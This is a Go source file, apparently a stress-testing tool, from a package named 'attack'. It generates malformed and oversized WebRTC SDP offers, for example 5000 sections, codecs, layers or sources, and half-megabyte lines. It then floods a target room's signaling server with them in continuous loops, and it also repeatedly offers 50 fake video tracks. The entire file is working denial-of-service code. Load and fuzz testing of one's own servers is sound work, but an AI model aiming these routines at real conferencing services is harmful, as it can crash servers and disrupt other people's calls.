package attack

import (
	"context"
	"fmt"
	"strings"
	"time"

	"konklave/internal/signal/lkpb"
)

// Bombs makes an honest offer larger in ways that a parser or a table could choke on.
func Bombs(offer string) map[string]string {
	first := strings.Index(offer, "m=audio")
	head, rest := offer[:first], offer[first:]
	audio := rest[:strings.Index(rest, "m=video")]
	video := rest[len(audio):]
	video = video[:strings.Index(video[1:], "m=audio")+1]
	repeat := func(n int, section, mid string) string {
		var b strings.Builder
		for i := range n {
			b.WriteString(strings.Replace(section, "a=mid:"+mid, fmt.Sprintf("a=mid:x%d", i), 1))
		}
		return b.String()
	}
	lines := func(n int, format string) string {
		var b strings.Builder
		for i := range n {
			fmt.Fprintf(&b, format+"\r\n", i)
		}
		return b.String()
	}
	formats := make([]string, 2000)
	for i := range formats {
		formats[i] = fmt.Sprint(i % 128)
	}
	return map[string]string{
		"500 sections":        head + repeat(500, audio, "0"),
		"5000 sections":       head + repeat(5000, "m=audio 0 UDP/TLS/RTP/SAVPF 0\r\na=mid:0\r\n", "0"),
		"the same mid":        head + repeat(300, audio, "none"),
		"2000 formats":        head + strings.Replace(audio, "SAVPF 111", "SAVPF "+strings.Join(formats, " "), 1),
		"5000 codecs":         head + video + lines(5000, "a=rtpmap:%d H264/90000"),
		"5000 layers":         head + video + lines(5000, "a=rid:r%d send") + "a=simulcast:send " + strings.Repeat("r1;", 5000) + "\r\n",
		"5000 extensions":     head + video + lines(5000, "a=extmap:%d urn:example"),
		"5000 sources":        head + video + lines(5000, "a=ssrc:%d cname:x") + lines(5000, "a=ssrc-group:FID %d 1"),
		"feedback":            head + video + lines(5000, "a=rtcp-fb:96 nack %d"),
		"half a megabyte":     head + video + "a=x:" + strings.Repeat("x", 600<<10) + "\r\n",
		"a long line":         head + video + "a=mid:" + strings.Repeat("x", 300<<10) + "\r\n",
		"50000 lines":         head + video + strings.Repeat("a=x\r\n", 50000),
		"no end of line":      strings.ReplaceAll(offer, "\r\n", "\r"),
		"nothing":             "v=0\r\n",
		"a bundle of nothing": strings.Replace(offer, "BUNDLE data", "BUNDLE "+strings.Repeat("z ", 2000), 1),
	}
}

// sdpBombs offers one bomb after the other. A client whose offer cannot be taken is sent away, so it joins for each.
func sdpBombs(ctx context.Context, t Target) (string, error) {
	sent := 0
	for ctx.Err() == nil {
		c, err := t.join(ctx, t.Room, name(0), false, nil)
		if err != nil {
			break
		}
		offer := c.Offer().GetSdp()
		c.Close()
		for _, bomb := range Bombs(offer) {
			if ctx.Err() != nil {
				break
			}
			if c, err = t.join(ctx, t.Room, name(0), false, nil); err != nil {
				break
			}
			for id := range uint32(20) {
				r := &lkpb.SignalRequest{Message: &lkpb.SignalRequest_Offer{Offer: &lkpb.SessionDescription{Type: "offer", Sdp: bomb, Id: 1000 + id}}}
				if c.Request(ctx, r) != nil {
					break
				}
				sent++
			}
			pause(ctx, 20*time.Millisecond) // else leaving comes before reading
			c.Close()
		}
	}
	return fmt.Sprintf("%d offers", sent), nil
}

// manyTracks announces 50 tracks and offers them all, in a call where others would be asked to receive them.
func manyTracks(ctx context.Context, t Target) (string, error) {
	rounds := 0
	for ctx.Err() == nil {
		c, err := t.join(ctx, t.Room, name(0), true, nil)
		if err != nil {
			break
		}
		for i := range 50 {
			r := &lkpb.AddTrackRequest{Cid: fmt.Sprintf("track-%d", i), Name: "track", Type: lkpb.TrackType_VIDEO, Source: lkpb.TrackSource_CAMERA}
			if c.Request(ctx, &lkpb.SignalRequest{Message: &lkpb.SignalRequest_AddTrack{AddTrack: r}}) != nil {
				break
			}
		}
		sdp := c.Offer().GetSdp()
		at := strings.LastIndex(sdp, "m=video")
		section := sdp[at:]
		for i := range 50 {
			one := strings.Replace(section, "a=mid:5", fmt.Sprintf("a=mid:t%d", i), 1)
			sdp += strings.Replace(one, "a=recvonly", fmt.Sprintf("a=sendonly\r\na=msid:stream track-%d\r\na=ssrc:%d cname:x", i, 1000+i), 1)
		}
		_ = c.Request(ctx, &lkpb.SignalRequest{Message: &lkpb.SignalRequest_Offer{Offer: &lkpb.SessionDescription{Type: "offer", Sdp: sdp, Id: 1000}}})
		pause(ctx, 500*time.Millisecond)
		c.Close()
		rounds++
	}
	return fmt.Sprintf("%d times", rounds), nil
}
